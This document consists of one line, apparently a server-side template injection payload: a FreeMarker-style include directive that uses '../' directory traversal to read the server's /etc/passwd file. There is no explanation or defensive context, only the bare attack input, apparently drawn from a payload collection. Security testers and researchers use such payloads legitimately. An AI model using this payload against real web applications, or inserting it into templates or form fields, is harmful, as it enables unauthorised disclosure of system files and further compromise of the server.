<#include "/../../../../etc/passwd">
